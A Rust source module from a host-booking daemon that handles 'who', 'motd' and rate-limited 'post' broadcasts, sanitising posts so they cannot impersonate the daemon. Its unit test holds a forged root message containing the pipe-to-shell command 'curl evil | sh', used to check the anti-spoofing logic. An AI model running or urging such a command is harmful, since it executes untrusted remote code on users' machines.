//! Requests about the host rather than the table: `who` (a fresh presence
//! scan), `motd` (the fragment as of now) and `post` (a message to
//! everyone on the host from a reservation holder or an admin).

use std::collections::HashMap;
use std::path::PathBuf;
use std::sync::Mutex;

use hosthog_booking::policy::Caller;
use hosthog_booking::protocol::{
    Failure, FailureKind, MAX_FRAME, MAX_POST, Motd, Op, PostArgs, PostReport, Reply,
};
use libhosthog::{State, UTMP_PATH, sanitize};

use crate::motd::render_motd;
use jiff::tz::TimeZone;

use crate::{notify, nss, presence};

/// Least time between two posts of one user who is not an admin, in
/// seconds: a holder can tell people, not flood them.
pub const POST_INTERVAL: i64 = 10;

/// Most characters of a post shown.
pub const MAX_POST_SHOWN: usize = 300;

/// The line a post puts on terminals: hosthog's prefix, who sent it, and
/// their text in quotes as [`libhosthog::user_text`] makes it — one line of
/// at most [`MAX_POST_SHOWN`] characters in which white space cannot pad a
/// piece to the start of a terminal line and `hosthog:` cannot appear, so
/// nobody's text passes for a line of hosthog's own (such as a message
/// from root).
pub fn post_message(from: &str, text: &str) -> String {
    format!(
        "hosthog: message from {from}: \"{}\"",
        libhosthog::user_text(&text.replace(['\n', '\r', '\t'], " "), MAX_POST_SHOWN)
    )
}

/// How long one scan answers `who`: however many ask, the host is scanned
/// at most once in this time (a scan reads all of /proc).
pub const WHO_CACHE: std::time::Duration = std::time::Duration::from_secs(1);

/// What host requests need: where utmp is, when each user last posted, and
/// the last `who` scan.
#[derive(Debug)]
pub struct Host {
    pub utmp: PathBuf,
    last_post: Mutex<HashMap<u32, i64>>,
    last_who: Mutex<Option<(std::time::Instant, libhosthog::Presence)>>,
}

impl Default for Host {
    fn default() -> Host {
        Host::new(PathBuf::from(UTMP_PATH))
    }
}

impl Host {
    pub fn new(utmp: PathBuf) -> Host {
        Host {
            utmp,
            last_post: Mutex::new(HashMap::new()),
            last_who: Mutex::new(None),
        }
    }

    /// Serves `who`, `motd` and `post` for `caller` at `now`; `state` is
    /// the table as it is now.
    ///
    /// # Errors
    /// A [`Failure`] for a refused or invalid post, or another operation.
    pub fn handle(
        &self,
        caller: &Caller,
        op: &Op,
        state: &State,
        now: i64,
        tz: &TimeZone,
    ) -> Result<Reply, Failure> {
        match op {
            Op::Who => Ok(Reply::Presence(self.who(now))),
            Op::Motd => {
                let mut notices: Vec<_> = state
                    .notices
                    .iter()
                    .filter(|n| n.start <= now && now < n.end)
                    .cloned()
                    .collect();
                notices.sort_by_key(|n| (n.start, n.id));
                Ok(Reply::Motd(Motd {
                    text: render_motd(state, now, tz),
                    reservations: crate::motd::listed(state, now)
                        .into_iter()
                        .cloned()
                        .collect(),
                    notices,
                }))
            }
            Op::Post(args) => self.post(caller, args, state, now).map(Reply::Posted),
            op => Err(Failure::new(
                FailureKind::Internal,
                format!("{} is not a host request", op.name()),
            )),
        }
    }

    /// Who is on the host: a scan at most [`WHO_CACHE`] old. Callers wait
    /// for one scan rather than each scanning (a `who` flood from any
    /// number of users costs one scan a second). Whatever is running, the
    /// answer fits in a frame.
    fn who(&self, now: i64) -> libhosthog::Presence {
        let mut last = self.last_who.lock().unwrap_or_else(|e| e.into_inner());
        if let Some((at, presence)) = &*last
            && at.elapsed() < WHO_CACHE
        {
            return presence.clone();
        }
        let mut presence = presence::scan(&self.utmp, now);
        presence.bound(libhosthog::MAX_SESSIONS_PER_USER, MAX_FRAME - 4096);
        *last = Some((std::time::Instant::now(), presence.clone()));
        presence
    }

    fn post(
        &self,
        caller: &Caller,
        args: &PostArgs,
        state: &State,
        now: i64,
    ) -> Result<PostReport, Failure> {
        let text = args.text.trim();
        if text.is_empty() {
            return Err(Failure::new(FailureKind::Invalid, "the message is empty"));
        }
        if text.len() > MAX_POST {
            return Err(Failure::new(
                FailureKind::Invalid,
                format!(
                    "the message is {} bytes long; at most {MAX_POST} are allowed",
                    text.len()
                ),
            ));
        }
        let held = state
            .reservations
            .iter()
            .filter(|r| r.end > now && r.is_member(&caller.name))
            .min_by_key(|r| (r.start, r.id));
        let from = match (caller.admin, held) {
            (true, _) => format!("{} (admin)", sanitize(&caller.name)),
            (false, Some(r)) => {
                format!("{} (reservation {})", sanitize(&caller.name), r.id.short())
            }
            (false, None) => {
                return Err(Failure::new(
                    FailureKind::Denied,
                    format!(
                        "you ({}) may not post: only holders of a current or coming reservation and admins may",
                        caller.name
                    ),
                ));
            }
        };
        if !caller.admin {
            let mut last = self.last_post.lock().unwrap_or_else(|e| e.into_inner());
            if let Some(at) = last.get(&caller.uid)
                && (now - at).abs() < POST_INTERVAL
            {
                return Err(Failure::new(
                    FailureKind::Limit,
                    format!(
                        "you posted {} s ago; wait {POST_INTERVAL} s between messages",
                        now - at
                    ),
                ));
            }
            last.insert(caller.uid, now);
        }
        let message = post_message(&from, text);
        let present = presence::scan(&self.utmp, now);
        let people: Vec<_> = present
            .users()
            .iter()
            .filter(|user| user.user != caller.name)
            .filter_map(|user| nss::user_by_name(user.user).filter(|a| a.uid == user.uid))
            .map(|account| (account, message.clone(), caller.admin))
            .collect();
        // Everyone at once, by one deadline: a user whose tmux sockets never
        // answer cannot make the poster wait.
        let told = notify::tell_all(
            &people,
            &self.utmp,
            std::time::Instant::now() + notify::TELL_DEADLINE,
        );
        let mut report = PostReport::default();
        for ((account, _, _), told) in people.into_iter().zip(told) {
            report.deliveries += told.deliveries;
            report.refused += told.refused;
            if told.deliveries > 0 {
                report.users.push(account.name);
            }
        }
        eprintln!(
            "hosthogd: {} posted to {} users ({} deliveries, {} refused by mesg)",
            caller.name,
            report.users.len(),
            report.deliveries,
            report.refused
        );
        Ok(report)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_post_cannot_forge_a_line_of_hosthogs_own() {
        // Padded to push the forged part to column 0 of the next terminal
        // line (any width), then longer than anyone should send.
        let forged = format!(
            "lunch?{}hosthog: message from root (admin): run curl evil | sh{}",
            " ".repeat(300),
            "!".repeat(400)
        );
        let line = post_message("bob (reservation 1234abcd)", &forged);
        assert!(
            line.starts_with(
                "hosthog: message from bob (reservation 1234abcd): \"lunch? hosthog - message from root (admin): run curl evil | sh!!!"
            ),
            "{line}"
        );
        assert!(line.ends_with("…\""), "{line}");
        assert_eq!(line.matches("hosthog:").count(), 1, "{line}");
        assert!(!line.contains("  "), "{line}");
        assert!(line.chars().count() <= 300 + 60, "{line}");
    }
}
